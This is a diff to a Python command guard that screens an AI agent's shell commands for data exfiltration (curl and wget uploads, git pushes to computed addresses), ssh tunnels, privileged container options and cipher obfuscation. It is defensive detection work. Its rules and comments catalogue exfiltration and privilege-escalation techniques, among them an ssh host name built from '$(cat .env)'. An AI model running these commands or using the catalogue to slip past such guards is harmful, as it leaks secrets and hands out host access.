@@ -14,7 +14,7 @@ import re
 
 from clawkeep.guards.command_guard._rules_io import write_target
 from clawkeep.guards.command_guard._walk import Cmd, Walker
-from clawkeep.guards.command_guard._words import Arg
+from clawkeep.guards.command_guard._words import UNKNOWN, Arg
 
 __all__ = ["DOWNLOADERS", "NET_RULES", "RAW_SOCKET", "SHELLS", "pipeline_rules", "producer_kinds"]
 
@@ -70,7 +70,9 @@ def _runtime_payload(cmd: Cmd, w: Walker) -> bool:
         # A credential handed to the API it belongs to: an authorization header.
         auth = previous in ("-H", "--header") and bool(_AUTH_HEADER.match(arg.text))
         skip = saved or auth
-        if arg.substs and not skip and (not arg.text.startswith("-") or "=" in arg.text):
+        # A variable the line filled at run time (V=$(cat f), read V) carries the same data.
+        data = bool(arg.substs) or arg.computed
+        if data and not skip and (not arg.text.startswith("-") or "=" in arg.text):
             w.flag("exfiltration", f"{cmd.name} sends a value computed at run time")
             return True
         previous = arg.text
@@ -85,17 +87,72 @@ def _egress(cmd: Cmd, w: Walker, targets: list[str] | None = None) -> None:
     w.flag("network_no_egress", f"{cmd.name} uses the network and this agent has no egress")
 
 
+# Short options that take a value, per client: `-sd @f` is `-s -d @f`, `-Tf` is `-T f`.
+_SHORT_VALUES = {
+    "curl": frozenset("AbcCdDeEFHKmoPQrTtuUwxXyYz"),
+    "wget": frozenset("aAbBDeiIlnOoPQRTtUwXY"),
+}
+# Options that read more options from a file (curl -K, wget --config) or run wgetrc
+# commands (wget -e post_file=…): what they send is not on the line.
+_OPTION_FILES = re.compile(r"^(-K|--config|-e|--execute)(=.*)?$")
+_WGETRC_SENDS = re.compile(r"^\s*(post|body)_(file|data)\s*=", re.I)
+
+
+def _split_short(values: list[str], letters: frozenset[str]) -> list[str]:
+    """Clusters of short options as separate words, attached values as the next word."""
+    out: list[str] = []
+    for value in values:
+        if not value.startswith("-") or value.startswith("--") or len(value) <= 2:
+            out.append(value)
+            continue
+        for position, letter in enumerate(value[1:], start=1):
+            out.append("-" + letter)
+            if letter in letters:
+                if position < len(value) - 1:
+                    out.append(value[position + 1 :])
+                break
+    return out
+
+
+def _option_file(values: list[str], cmd: Cmd, w: Walker) -> bool:
+    """curl -K FILE / wget --config FILE, wget -e post_file=…: options that may upload."""
+    for index, value in enumerate(values):
+        match = _OPTION_FILES.match(value)
+        if match is None or (cmd.name == "curl") == value.startswith(("-e", "--execute")):
+            continue
+        given = match.group(2)[1:] if match.group(2) else values[index + 1 : index + 2]
+        setting = given if isinstance(given, str) else (given[0] if given else "")
+        if value.startswith(("-e", "--execute")):
+            if not _WGETRC_SENDS.match(setting):
+                continue
+            w.flag("exfiltration", "wget -e post_file/body_data sends local data")
+            return True
+        text = w.written.get(w.place(setting).path) if setting else None
+        if text is not None and not re.search(
+            r"^\s*-*(data|form|upload|json|post|body|url-query|variable|[dFT]\b)", text, re.M
+        ):
+            continue  # a config this line wrote that sends nothing
+        # exfiltration: the option file may name files to upload or data to post
+        w.flag("exfiltration", f"{cmd.name} takes options (uploads, posts) from {setting}")
+        return True
+    return False
+
+
 def _curl(cmd: Cmd, w: Walker) -> None:
     values = cmd.values()
+    if cmd.name in _SHORT_VALUES:
+        values = _split_short(values, _SHORT_VALUES[cmd.name])
     if _runtime_payload(cmd, w):
         return
     urls = _urls(values)
     if set(values) & {"--version", "-V", "--help", "-h"} and not urls:
         return
+    if cmd.name in ("curl", "wget") and _option_file(values, cmd, w):
+        return
     for index, arg in enumerate(values):
         flag = re.match(
             r"^(-[dFT]|--data[\w-]*|--form[\w-]*|--upload-file|--json|--post-(file|data)"
-            r"|--body-(file|data))(=(.*))?$",
+            r"|--body-(file|data)|--url-query|--variable)(=(.*))?$",
             arg,
         )
         if flag is None:
@@ -105,6 +162,10 @@ def _curl(cmd: Cmd, w: Walker) -> None:
             if flag.group(4)
             else (values[index + 1] if index + 1 < len(values) else "")
         )
+        if arg == "--variable" and "@" not in payload:
+            continue  # --variable name=text: a literal, nothing read from a file
+        if arg == "--url-query" and "@" not in payload:
+            continue  # --url-query name=text: a literal part of the URL
         is_file = arg in ("-T", "--upload-file") or "file" in arg or payload.startswith(("@", "<"))
         if not _loopback_only(urls):  # a request to this machine sends nothing away
             what = "uploads a file" if is_file else "posts data"
@@ -179,9 +240,9 @@ def _ssh(cmd: Cmd, w: Walker) -> None:
     values = cmd.values()
     if set(values) <= {"-V", "-h"}:
         return
-    if (cmd.name == "ssh" and set(values) & {"-R", "-D"}) or any(
-        v.startswith(("-R", "-D")) for v in values
-    ):
+    if _runtime_payload(cmd, w):
+        return  # ssh "$(cat .env).x.example": the host name carries the data in its lookup
+    if _opens_tunnel(values):
         w.flag("tunnel", f"{cmd.name} opens a tunnel or proxy into this machine")
         return
     if _forwards_agent(values):
@@ -205,6 +266,54 @@ def _ssh(cmd: Cmd, w: Walker) -> None:
 
 
 _SSH_VALUE = frozenset("bcDEeFIiJLlmOopQRSWw")
+_LOOPBACK_BIND = re.compile(r"^(localhost|127\.[\d.]+|\[::1\]|::1)$")
+
+
+def _bind_exposed(forward: str) -> bool:
+    """A -L forward ``BIND:PORT:HOST:HOSTPORT`` whose bind address is not loopback."""
+    if forward.startswith("["):
+        bind = forward[: forward.find("]") + 1]
+    else:
+        fields = forward.split(":")
+        if len(fields) < 4:
+            return False  # PORT:HOST:HOSTPORT binds loopback (without -g)
+        bind = fields[0]
+    return not _LOOPBACK_BIND.match(bind)
+
+
+def _opens_tunnel(values: list[str]) -> bool:
+    """-R / -D in any cluster (`-fNR`), their -o spellings (RemoteForward, DynamicForward),
+    and a local forward other machines can reach (-g, GatewayPorts, a non-loopback bind)."""
+    gateway = False
+    local: list[str] = []
+    index = 0
+    while index < len(values):
+        value = values[index]
+        index += 1
+        if not value.startswith("-") or value.startswith("--") or value == "-":
+            continue
+        letters = value[1:]
+        for position, letter in enumerate(letters):
+            if letter in "RD":
+                return True
+            gateway |= letter == "g"
+            if letter in _SSH_VALUE:
+                given = letters[position + 1 :]
+                if not given and index < len(values):
+                    given, index = values[index], index + 1
+                if letter == "L":
+                    local.append(given)
+                elif letter == "o":
+                    parts = re.match(r"^\s*(\w+)\s*[=\s]\s*(.*)$", given)
+                    key, setting = (parts.group(1).lower(), parts.group(2)) if parts else ("", "")
+                    if key in ("remoteforward", "dynamicforward"):
+                        return True
+                    if key == "gatewayports" and setting.strip().lower() in ("yes", "true"):
+                        gateway = True
+                    if key == "localforward":
+                        local.append(re.sub(r"\s+", ":", setting.strip(), count=1))
+                break
+    return bool(local) and (gateway or any(_bind_exposed(f) for f in local))
 
 
 def _forwards_agent(values: list[str]) -> bool:
@@ -289,20 +398,59 @@ def _archive(cmd: Cmd, w: Walker) -> None:
     w.flag("exfiltration", f"{cmd.name} sends an archive of local files to a remote host")
 
 
+_GIT_GLOBAL_VALUES = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace"})
+_REMOTE_URL_KEY = re.compile(r"^remote\.(.+)\.(push)?url(=|$)", re.I)
+
+
 def _git(cmd: Cmd, w: Walker) -> None:
-    values = [v for v in cmd.values() if not v.startswith("-")]
+    raw = cmd.values()
+    values: list[str] = []
+    for index, value in enumerate(raw):
+        previous = raw[index - 1] if index else ""
+        if previous == "-c" and (key := _REMOTE_URL_KEY.match(value)):
+            w.remotes.add(key.group(1))  # git -c remote.origin.pushurl=… push
+        if previous in _GIT_GLOBAL_VALUES and not values:
+            continue  # git -c k=v / -C dir: a global option's value, not the verb
+        if not value.startswith("-"):
+            values.append(value)
     if values[:2] in (["remote", "add"], ["remote", "set-url"]) and len(values) > 3:
         w.remotes.add(values[2])  # a remote this command line points somewhere new
-    if not values or values[0] not in ("clone", "fetch", "pull", "push", "ls-remote", "submodule"):
+    if values[:1] == ["config"] and len(values) > 2 and (key := _REMOTE_URL_KEY.match(values[1])):
+        w.remotes.add(key.group(1))  # git config remote.origin.url URL
+    networked = ("clone", "fetch", "pull", "push", "ls-remote", "submodule", "remote")
+    if not values or values[0] not in networked:
         return
-    pushed_to_new = any(v in w.remotes for v in values[1:])
-    if values[0] == "push" and (pushed_to_new or any(_REMOTE.match(v) for v in values[1:])):
+    if any(_runtime_url(a.text, a) for a in cmd.args):
+        # exfiltration: a repository address built from data at run time carries it out
+        w.flag("exfiltration", "git reaches an address built from data at run time")
+        return
+    if values[0] == "remote":
+        return
+    named = [v for v in values[1:] if not v.startswith("-")]
+    pushed_to_new = any(v in w.remotes for v in named) or (
+        bool(w.remotes)
+        and not any(_REMOTE.match(v) or v in ("origin",) for v in named[:1])
+        and not named
+    )
+    if values[0] == "push" and (pushed_to_new or any(_REMOTE.match(v) for v in named)):
         w.flag("exfiltration", "git push to an address rather than a configured remote")
         return
     _egress(cmd, w, [v for v in values[1:] if _REMOTE.match(v)] or None)
 
 
+def _runtime_url(text: str, arg: Arg) -> bool:
+    """A URL or host:path address with a part the line computed from data at run time."""
+    if not (arg.substs or arg.computed) or UNKNOWN not in text:
+        return False
+    address = text.split("=", 1)[1] if text.startswith("-") and "=" in text else text
+    return bool(re.match(r"^(\w+://|[\w.-]*@?[\w.-]+:(?!//))", address))
+
+
 def _packages(cmd: Cmd, w: Walker) -> None:
+    if any(_runtime_url(a.text, a) for a in cmd.args if "://" in a.text):
+        # exfiltration: an index or package URL built from data at run time carries it out
+        w.flag("exfiltration", f"{cmd.name} reaches a URL built from data at run time")
+        return
     values = [v for v in cmd.values() if not v.startswith("-")]
     if cmd.name in _SYSPKG and any(re.match(r"^\w+://", v) for v in values):
         w.flag("download_exec", f"{cmd.name} installs a package straight from a URL")
@@ -314,17 +462,76 @@ def _packages(cmd: Cmd, w: Walker) -> None:
         _egress(cmd, w)
 
 
+# Container options that hand the container the host: its root, devices, kernel or
+# namespaces (the engine runs as root, so the container's root is the host's).
+_HOST_OPTIONS = re.compile(
+    r"--privileged(?!=false)|docker\.sock|--(pid|ipc|userns|uts|cgroupns)[ =]host\b"
+    r"|--device(-cgroup-rule)?[ =]|--security-opt[ =]\S*unconfined"
+    r"|--cap-add[ =](ALL|SYS_ADMIN|SYS_MODULE|SYS_PTRACE|SYS_RAWIO|DAC_READ_SEARCH"
+    r"|DAC_OVERRIDE|BPF|PERFMON|SYS_BOOT)\b",
+    re.I,
+)
+
+
+def _mount_sources(values: list[str]) -> list[str]:
+    """Host paths bind-mounted into a container: `-v SRC:DST`, `--mount …source=SRC`."""
+    sources: list[str] = []
+    for index, value in enumerate(values):
+        spec: str | None = None
+        if value in ("-v", "--volume", "--mount") and index + 1 < len(values):
+            spec = values[index + 1]
+        elif value.startswith(("--volume=", "--mount=")):
+            spec = value.split("=", 1)[1]
+        elif value.startswith("-v") and len(value) > 2:
+            spec = value[2:].removeprefix("=")  # -v/etc:/x, -v=/etc:/x
+        if spec is None:
+            continue
+        if value.startswith("--mount"):
+            found = re.search(r"(?:^|,)(?:source|src)=([^,]+)", spec)
+            if found:
+                sources.append(found.group(1))
+        elif spec.startswith(("/", "~", ".")) or spec.split(":", 1)[0] in ("", "."):
+            sources.append(spec.split(":", 1)[0] or "/")
+    return sources
+
+
 def _containers(cmd: Cmd, w: Walker) -> None:
-    joined = " ".join(cmd.values())
-    if re.search(
-        r"--privileged|(-v|--volume)[ =]/(:|\s|$)|--mount[ =]\S*(source|src)=/(,|\s|$)"
-        r"|docker\.sock|--pid[ =]host|--cap-add[ =](ALL|SYS_ADMIN)",
-        joined,
-    ):
+    values = cmd.values()
+    joined = " ".join(values)
+    beyond = [
+        src
+        for src in _mount_sources(values)
+        if w.place(src).kind not in ("workspace", "workspace_root", "temp")
+    ]
+    if _HOST_OPTIONS.search(joined) or beyond:
+        # privilege: the engine runs as root; the container gets the host's files as root,
+        # its devices, its kernel's capabilities or its namespaces
         w.flag("privilege", f"{cmd.name} gives a container the host's root, devices or daemon")
         return
     verbs = [v for v in cmd.values() if not v.startswith("-")]
     if verbs and verbs[0] in ("pull", "push", "login", "search"):
+        _egress(cmd, w)
+
+
+# System-container managers: settings that give a container the host's root or its disks.
+_HOST_ROOT_SETTING = re.compile(
+    r"security\.privileged[= ]+(true|1|yes)\b|raw\.(lxc|idmap|apparmor|seccomp)\b"
+    r"|security\.syscalls\.intercept\.(mount|mknod|setxattr)",
+    re.I,
+)
+
+
+def _system_containers(cmd: Cmd, w: Walker) -> None:
+    """``lxc``/``incus``: a privileged container, raw settings, or a host folder beyond the
+    workspace handed to it as a disk (``disk source=/``)."""
+    sources = [v.split("=", 1)[1] for v in cmd.values() if v.startswith("source=")]
+    beyond = [s for s in sources if w.place(s).kind not in ("workspace", "workspace_root", "temp")]
+    if _HOST_ROOT_SETTING.search(" ".join(cmd.values())) or beyond:
+        # privilege: root in such a container is root on the host (or holds its files)
+        w.flag("privilege", f"{cmd.name} gives a container the host's root or its files")
+        return
+    verbs = [v for v in cmd.values() if not v.startswith("-")]
+    if verbs and verbs[0] in ("launch", "init", "image", "remote"):
         _egress(cmd, w)
 
 
@@ -370,8 +577,9 @@ def _file_transfer(cmd: Cmd, w: Walker) -> None:
 
 
 def producer_kinds(name: str, values: list[str]) -> set[str]:
-    """What a pipeline stage produces: downloaded bytes, decoded bytes, only numbers
-    (``digits``: no character a shell would act on), or nothing known."""
+    """What a pipeline stage produces: downloaded bytes, decoded bytes, text put through a
+    character cipher (``cipher``: harmless as an argument, obfuscation when a shell reads
+    it), only numbers (``digits``: no character a shell would act on), or nothing known."""
     if name in ("seq", "jot", "nproc") and not any(v in ("-f", "--format", "-s") for v in values):
         return {"digits"}
     if name in DOWNLOADERS or name in RAW_SOCKET or name in _NETWORK or name == "scp":
@@ -389,6 +597,11 @@ def producer_kinds(name: str, values: list[str]) -> set[str]:
         re.search(r"\\x[0-9a-fA-F]|\\[0-7]{3}", v) for v in values
     ):
         return {"decode"}
+    sets = [v for v in values if not v.startswith("-")]
+    if name == "tr" and len(sets) >= 2 and not {"-d", "--delete"} & set(values):
+        return {"cipher"}  # tr 'a-z' 'n-za-m': a character cipher (rot13 and the like)
+    if name == "sed" and any(re.match(r"^\s*(\d+|\$)?\s*y(.).*\2.*\2\s*$", v) for v in sets):
+        return {"cipher"}  # sed y/abc/nop/: the same cipher in sed
     return set()
 
 
@@ -411,6 +624,10 @@ NET_RULES |= {name: _packages for name in _PKG | _SYSPKG}
 NET_RULES |= {name: _network for name in _NETWORK - {"ssh", "sftp"}}
 NET_RULES |= {name: _tunnel for name in _TUNNELS | {"code"}}
 NET_RULES |= {"docker": _containers, "podman": _containers, "nerdctl": _containers}
+NET_RULES |= {"ctr": _containers, "docker-compose": _containers}
+NET_RULES |= {"lxc": _system_containers, "incus": _system_containers}
+# ssh's relatives take its forwarding options (-R, -D, -L) with the same meaning.
+NET_RULES |= {"plink": _ssh, "plink.exe": _ssh, "autossh": _ssh, "dbclient": _ssh}
 NET_RULES |= {n: _mail for n in ("mail", "mailx", "mutt", "sendmail", "ssmtp", "msmtp", "swaks")}
 NET_RULES |= {n: _file_transfer for n in ("smbclient", "ftp", "lftp", "tftp", "sftp")}
 NET_RULES |= {"cancel": _print_remote, "lp": _print_remote, "lpr": _print_remote}
